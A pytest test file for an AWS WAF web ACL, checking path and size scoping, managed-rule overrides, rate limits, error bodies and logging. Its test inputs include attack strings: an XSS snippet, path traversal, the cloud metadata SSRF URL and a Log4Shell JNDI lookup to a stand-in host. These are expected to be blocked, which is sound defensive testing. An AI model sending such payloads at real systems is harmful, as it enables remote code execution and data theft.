"""The web ACL: large bodies and free text pass on ``POST /v1/jobs``, and nowhere else."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from http import HTTPStatus
from typing import Any, Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.jobs.words.limits import MAX_BODY_BYTES, WAF_BODY_BYTES, WAF_BODY_RULE
from handlers.web.titles import TITLES
from infra.waf_statements import at_most
from tests.support.openapi import check_answer

from .synthesis import Synthesised, referred, settings_of, synthesise
from .waf_model import Request, Verdict, judge

Acl = dict[str, Any]
JOBS: Final = ("/live/v1/jobs", "/v1/jobs")
ELSEWHERE: Final = (
    ("POST", "/live/v1/uploads"),
    ("POST", "/live/v1/jobs/abc/retry"),
    ("POST", "/live/v1/jobs/"),
    ("POST", "/live/v1/jobs2"),
    ("POST", "/live//v1/jobs"),
    ("POST", "/x/live/v1/jobs"),
    ("POST", "/live/v1/%6aobs"),
    ("POST", "/live/V1/JOBS"),
    ("PUT", "/live/v1/jobs"),
    ("GET", "/live/v1/jobs"),
    ("post", "/live/v1/jobs"),
)
SIZES: Final = (7_900, WAF_BODY_RULE, WAF_BODY_RULE + 1, 8_300, 70_000, 1_000_000)
FREE_TEXT: Final = (
    "see http://203.0.113.7/price.html",
    '<p onclick="buy()">Sale</p><script>1</script>',
    "../images/logo.png",
    "http://169.254.169.254/latest",
)


@cache
def body_of(size: int, text: str) -> bytes:
    """Begins with the text. Made once for all requests that have it: some take megabytes."""
    return (text + "x" * (size - len(text))).encode()


@pytest.fixture(scope="module", autouse=True)
def _bodies() -> Iterator[None]:
    yield
    body_of.cache_clear()


def request(
    method: str, path: str, size: int, text: str = "", changed: Mapping[str, str] | None = None
) -> Request:
    """changed: headers; an empty one is not sent."""
    body = body_of(size, text)
    sent = {"user-agent": "a client", "content-length": str(len(body)), **(changed or {})}
    return Request(method, path, body, {name: value for name, value in sent.items() if value})


def on_jobs() -> Iterator[tuple[Request, tuple[str, int]]]:
    for path in JOBS:
        for size in (*SIZES, MAX_BODY_BYTES, MAX_BODY_BYTES + 1, WAF_BODY_BYTES):
            for text in ("", *FREE_TEXT):
                yield request("POST", path, size, text), ("ALLOW", 200)
            yield request("POST", path, size, changed={"user-agent": ""}), ("ALLOW", 200)
        for size in (WAF_BODY_BYTES + 1, 9_999_999, 10_000_000):
            yield request("POST", path, size), ("BLOCK", 413)
        for length in ("", "many", "-1", "+9000", "009000", "9000 ", "9,000", "9e3", "0x9000"):
            declared = {"content-length": length}
            yield request("POST", path, 9_000, changed=declared), ("BLOCK", 413)
            yield request("POST", path, 7_900, changed=declared), ("ALLOW", 200)


def elsewhere() -> Iterator[tuple[Request, tuple[str, int]]]:
    for method, path in ELSEWHERE:
        for size in SIZES:
            large = size > WAF_BODY_RULE
            yield request(method, path, size), ("BLOCK", 413) if large else ("ALLOW", 200)
            for text in FREE_TEXT:
                sent = request(method, path, size, text)
                yield sent, ("BLOCK", 413 if large else 403)
        yield request(method, path, 100, changed={"user-agent": ""}), ("ALLOW", 200)


def everywhere() -> Iterator[tuple[Request, tuple[str, int]]]:
    for method, path in (*(("POST", path) for path in JOBS), *ELSEWHERE):
        yield request(method, path, 0), ("ALLOW", 200)
        yield request(method, path, 500, "${jndi:ldap://203.0.113.7/a}"), ("BLOCK", 403)


def differences(acl: Acl) -> list[tuple[Request, Verdict]]:
    expected = [*on_jobs(), *elsewhere(), *everywhere()]
    found = ((sent, judge(acl, sent), wanted) for sent, wanted in expected)
    return [
        (Request(sent.method, sent.path, sent.body[:60], sent.headers), verdict)
        for sent, verdict, wanted in found
        if (verdict.action, verdict.status) != wanted
    ]


def acl_of(stack: Synthesised) -> Acl:
    (acl,) = stack.of("WAFv2::WebACL").values()
    return copy.deepcopy(acl)


def test_c49_every_size_on_every_path_as_documented(stack: Synthesised) -> None:
    assert differences(acl_of(stack)) == []


# --- the same judgement sees when a rule is gone or too wide ---------------------------------


def rule(acl: Acl, name: str) -> dict[str, Any]:
    (found,) = [one for one in acl["Rules"] if one["Name"] == name]
    return dict(found)


def without_override(name: str) -> Callable[[Acl], None]:
    def spoil(acl: Acl) -> None:
        group = rule(acl, "Common")["Statement"]["ManagedRuleGroupStatement"]
        group["RuleActionOverrides"] = [
            one for one in group["RuleActionOverrides"] if one["Name"] != name
        ]

    return spoil


def without_rule(name: str) -> Callable[[Acl], None]:
    def spoil(acl: Acl) -> None:
        acl["Rules"] = [one for one in acl["Rules"] if one["Name"] != name]

    return spoil


def only_counting(name: str) -> Callable[[Acl], None]:
    def spoil(acl: Acl) -> None:
        (found,) = [one for one in acl["Rules"] if one["Name"] == name]
        found["Action"] = {"Count": {}}

    return spoil


def rewritten(pattern: str, text: str) -> Callable[[Acl], None]:
    def spoil(acl: Acl) -> None:
        changed = re.sub(pattern, text, json.dumps(acl["Rules"]))
        assert changed != json.dumps(acl["Rules"])
        acl["Rules"] = json.loads(changed)

    return spoil


def before_the_labels(acl: Acl) -> None:
    for one in acl["Rules"]:
        if one["Priority"] >= 40:
            one["Priority"] -= 39


def whole_group_counted(acl: Acl) -> None:
    for one in acl["Rules"]:
        if one["Name"] == "KnownBadInputs":
            one["OverrideAction"] = {"Count": {}}


def scoped_to_jobs_only(acl: Acl) -> None:
    """Managed rules that are not evaluated anywhere else leave no labels there."""
    jobs = rule(acl, "LargeBodyOfJob")["Statement"]["AndStatement"]["Statements"][1]
    for one in acl["Rules"]:
        if one["Name"] == "Common":
            one["Statement"]["ManagedRuleGroupStatement"]["ScopeDownStatement"] = jobs


SPOILED: Final[dict[str, Callable[[Acl], None]]] = {
    **{
        f"no override of {name}": without_override(name)
        for name in (
            "SizeRestrictions_BODY",
            "CrossSiteScripting_BODY",
            "GenericRFI_BODY",
            "GenericLFI_BODY",
            "EC2MetaDataSSRF_BODY",
            "NoUserAgent_HEADER",
        )
    },
    **{
        f"{verb} {name}": how(name)
        for name in ("LargeBodyElsewhere", "BadTextElsewhere", "LargeBodyOfJob")
        for verb, how in (("no", without_rule), ("only counting", only_counting))
    },
    "no common rules": without_rule("Common"),
    "no known bad inputs": without_rule("KnownBadInputs"),
    "known bad inputs only counted": whole_group_counted,
    "our rules before the labels": before_the_labels,
    "managed rules on one path": scoped_to_jobs_only,
    "paths that begin so": rewritten(
        r'"EXACTLY", "SearchString": "/', '"STARTS_WITH", "SearchString": "/'
    ),
    "paths that end so": rewritten(
        r'"EXACTLY", "SearchString": "/', '"ENDS_WITH", "SearchString": "/'
    ),
    "paths in any case": rewritten(
        r'("SearchString": "/[^"]*", "TextTransformations": \[\{"Priority": 0, "Type": )"NONE"',
        r'\1"LOWERCASE"',
    ),
    "decoded paths": rewritten(
        r'("SearchString": "/[^"]*", "TextTransformations": \[\{"Priority": 0, "Type": )"NONE"',
        r'\1"URL_DECODE"',
    ),
    "any method": rewritten(r'"EXACTLY", "SearchString": "POST"', '"CONTAINS", "SearchString": ""'),
    "only the stage's path": rewritten('"SearchString": "/v1/jobs"', '"SearchString": "/other"'),
    "a label nobody leaves": rewritten("SizeRestrictions_Body", "SizeRestrictions_BODY"),
    "any length": rewritten(r'"RegexString": "[^"]*"', '"RegexString": "."'),
    "half the length": rewritten(
        r'"RegexString": "[^"]*"', f'"RegexString": "{at_most(MAX_BODY_BYTES // 2)}"'
    ),
    "a length somewhere": rewritten(r'"RegexString": "\^([^"]*)\$"', r'"RegexString": "\1"'),
}


@pytest.mark.parametrize("how", SPOILED)
def test_a_rule_that_is_gone_or_too_wide_is_seen(stack: Synthesised, how: str) -> None:
    acl = acl_of(stack)
    SPOILED[how](acl)
    assert differences(acl)


# --- the rest ---------------------------------------------------------------------------------


@given(st.integers(0, 10**9), st.integers(0, 10**10))
def test_the_expression_of_a_limit_is_of_exactly_the_numbers_up_to_it(limit: int, n: int) -> None:
    for number in (n, limit - 1, limit, limit + 1, limit * 10, limit // 10):
        found = re.search(at_most(limit), str(number)) is not None
        assert found is (0 <= number <= limit)


def test_the_expression_is_no_longer_than_waf_takes() -> None:
    assert len(at_most(WAF_BODY_BYTES)) <= 512


def test_every_refusal_tells_why(stack: Synthesised) -> None:
    acl = acl_of(stack)
    for one in acl["Rules"]:
        if block := one.get("Action", {}).get("Block"):
            custom = block["CustomResponse"]
            body = acl["CustomResponseBodies"][custom["CustomResponseBodyKey"]]
            problem = json.loads(body["Content"])
            assert problem["status"] == custom["ResponseCode"]
            assert problem["title"] == TITLES[HTTPStatus(problem["status"])]
            assert (problem["answered_by"], body["ContentType"]) == ("waf", "APPLICATION_JSON")
            told = {"content-type": "application/json", "x-request-id": ""}
            check_answer("GET", "/v1/jobs", problem["status"], told, problem)
    large = judge(acl, request("POST", JOBS[0], WAF_BODY_BYTES + 1))
    assert "POST /v1/uploads" in acl["CustomResponseBodies"][large.answer]["Content"]


def test_an_address_is_slowed_down(stack: Synthesised) -> None:
    acl = acl_of(stack)
    assert judge(acl, Request("GET", JOBS[0], rate=100_001)).status == 429
    assert judge(acl, Request("GET", JOBS[0], rate=100_000)).status == 200


def test_c106_a_token_is_slowed_down_long_before_its_address(stack: Synthesised) -> None:
    acl = acl_of(stack)

    def asked(rate: int, **headers: str) -> Verdict:
        return judge(acl, Request("GET", JOBS[0], headers=headers, rate=rate, token_rate=rate))

    assert asked(10_000, authorization="Bearer a").status == 200
    refused = asked(10_001, authorization="Bearer a")
    assert (refused.rule, refused.status) == ("TokenRate", 429)
    assert asked(10_001).status == 200
    for one in acl["Rules"]:
        custom = one.get("Action", {}).get("Block", {}).get("CustomResponse", {})
        if custom.get("ResponseCode") == 429:
            [header] = custom["ResponseHeaders"]
            assert (header["Name"], int(header["Value"])) == ("Retry-After", 300)


def test_it_is_in_front_of_the_stage_and_logs_what_it_refuses(stack: Synthesised) -> None:
    (in_front,) = stack.of("WAFv2::WebACLAssociation").values()
    assert referred(in_front["WebACLArn"]) == stack.find("WAFv2::WebACL", "Acl")
    assert referred(in_front["ResourceArn"]["Fn::Join"][1][-1]) == stack.find(
        "ApiGateway::Stage", "live"
    )
    (logging,) = stack.of("WAFv2::LoggingConfiguration").values()
    group = stack.properties("Logs::LogGroup", "Edge")["LogGroupName"]
    [destination] = logging["LogDestinationConfigs"]
    assert group.startswith("aws-waf-logs-")
    assert destination["Fn::Join"][1][-1].endswith(f":log-group:{group}")
    assert kept(logging) == {"BLOCK"}
    assert logging["RedactedFields"] == [{"SingleHeader": {"Name": "authorization"}}]


def kept(logging: dict[str, Any]) -> set[str]:
    (one,) = logging["LoggingFilter"]["Filters"]
    assert (one["Behavior"], one["Requirement"]) == ("KEEP", "MEETS_ANY")
    assert logging["LoggingFilter"]["DefaultBehavior"] == "DROP"
    return {condition["ActionCondition"]["Action"] for condition in one["Conditions"]}


def test_counting_refuses_nothing_and_says_what_it_would_have() -> None:
    counting = synthesise(settings_of(waf={"mode": "count", "inspect_kb": 64}))
    acl = acl_of(counting)
    verdicts = [judge(acl, sent) for sent, _ in (*on_jobs(), *elsewhere(), *everywhere())]
    assert {verdict.action for verdict in verdicts} == {"ALLOW"}
    assert {"LargeBodyElsewhere", "BadTextElsewhere", "LargeBodyOfJob", "Log4JRCE_BODY"} <= {
        name for verdict in verdicts for name in verdict.counted
    }
    (logging,) = counting.of("WAFv2::LoggingConfiguration").values()
    assert kept(logging) == {"BLOCK", "COUNT"}
    limit = acl["AssociationConfig"]["RequestBody"]["API_GATEWAY"]
    assert limit == {"DefaultSizeInspectionLimit": "KB_64"}


def test_without_it_there_is_none(other: Synthesised) -> None:
    assert not other.of("WAFv2::WebACL")
    assert not other.of("WAFv2::WebACLAssociation")
